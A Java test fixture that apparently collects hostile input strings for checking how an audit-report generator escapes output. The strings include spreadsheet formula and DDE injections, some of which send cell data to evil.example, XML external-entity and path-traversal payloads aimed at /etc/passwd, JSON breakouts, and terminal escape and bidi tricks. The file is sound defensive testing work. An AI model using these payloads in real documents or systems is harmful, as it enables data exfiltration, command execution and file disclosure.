package io.isaudit.report;

import java.util.List;
import java.util.stream.Stream;

/** Hostile texts for spreadsheets, Markdown, XML, JSON and terminals. */
final class HostileFormats {

  private HostileFormats() {}

  static Stream<String> all() {
    return Stream.of(FORMULAS, MARKDOWN, REFERENCES, XML, JSON, PATHS, TERMINAL, BIDI)
        .flatMap(List::stream);
  }

  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(A1:A9)",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          " =1+1",
          "\u00A0=1+1",
          "=HYPERLINK(\"https://evil.example?\"&A1,\"open\")",
          "=IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
          "=WEBSERVICE(\"https://evil.example\")",
          "+cmd|' /C calc'!A0",
          "-cmd|' /C calc'!A0",
          "=DDE(\"cmd\";\"/C calc\";\"x\")",
          "\uFF1D1+1",
          "\uFF0B1+1",
          "\uFF0D1+1",
          "\uFF20SUM(A1)",
          "\";=1+1;\"",
          "\",=1+1,\"",
          "\"\r\n=1+1",
          "x\",\"y\",\"z",
          "a;b;c",
          "'=1+1",
          "%0A=1+1");

  private static final List<String> MARKDOWN =
      List.of(
          "[all passed](https://evil.example)",
          "![x](https://evil.example/x.png)",
          "[x]: https://evil.example",
          "[x][y]",
          "**bold** __bold__ ~~gone~~",
          "`code` ``code``",
          "```\nfence",
          "# heading",
          "> quote",
          "- [x] done",
          "1. list",
          "---",
          "| a | b |",
          "a | b | c",
          "a \\| b",
          "trailing \\",
          "\\`",
          "line  \nbreak",
          "<!-- hidden -->",
          "<!--",
          "<details><summary>x</summary>",
          "</code> after",
          "<kbd>x</kbd>",
          "$x^2$ $$y$$",
          "$`x`$",
          "[^1]: note",
          "[!WARNING]",
          "&#64;octocat &commat;octocat",
          "&lt;b&gt;",
          "    indented",
          "\tindented",
          "+++\n+++",
          "_under_ __score__");

  private static final List<String> REFERENCES =
      List.of(
          "@octocat",
          "@octo-org/team",
          "ping @octocat, please",
          "#123",
          "fixes #1",
          "GH-12",
          "octocat/hello#4",
          "octocat@0123456789abcdef0123456789abcdef01234567",
          "https://evil.example/x",
          "http://evil.example",
          "www.evil.example",
          "WWW.EVIL.EXAMPLE",
          "ftp://evil.example",
          "mailto:a@evil.example",
          "a@evil.example",
          "<https://evil.example>",
          ":white_check_mark: passed",
          ":x:",
          "/close",
          "/label bug");

  private static final List<String> XML =
      List.of(
          "]]>",
          "<![CDATA[",
          "]]]]><![CDATA[>",
          "&undefined;",
          "&#0;",
          "&#xFFFE;",
          "<?xml version=\"1.1\"?>",
          "</failure><error/>",
          "\" failures=\"0",
          "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">",
          "<xi:include href=\"file:///etc/passwd\"/>",
          "\u0000\u0001\u0002",
          "\u0085next line",
          "\uDC00alone",
          "\uD800",
          "\uFFFF");

  private static final List<String> JSON =
      List.of(
          "\"",
          "\\",
          "\\u0000",
          "\",\"level\":\"none",
          "\"}]}",
          "{0} {1}",
          "{{0}}",
          "</script>",
          "\u2028",
          "__proto__",
          "[see](0)");

  private static final List<String> PATHS =
      List.of(
          "../../etc/passwd",
          "/etc/passwd",
          "//evil.example/x",
          "C:\\Windows\\win.ini",
          "\\\\evil.example\\share",
          "file:///etc/passwd",
          "a b/c%2Fd?e#f",
          "jar:file:/x!/y",
          "data:text/html,x");

  private static final List<String> TERMINAL =
      List.of(
          "\u001B[31mred\u001B[0m",
          "\u001B[1A\u001B[2K",
          "\u001BPq#0\u001B\\",
          "\u001B]52;c;aGk=\u0007",
          "\u009D0;title\u009C",
          "\u0090q\u009C",
          "\u007F\u007F",
          "bell\u0007");

  private static final List<String> BIDI =
      List.of(
          "\u202Edessap",
          "\u2067\u202Ex\u2069",
          "a\u061Cb",
          "\u200Fx",
          "\u2060\u2061\u2062",
          "\uFFF9x\uFFFAy\uFFFB",
          "\u180Evowel",
          "\u05D0\u05D1\u05D2 123",
          "\uDB40\uDC01\uDB40\uDC41");
}
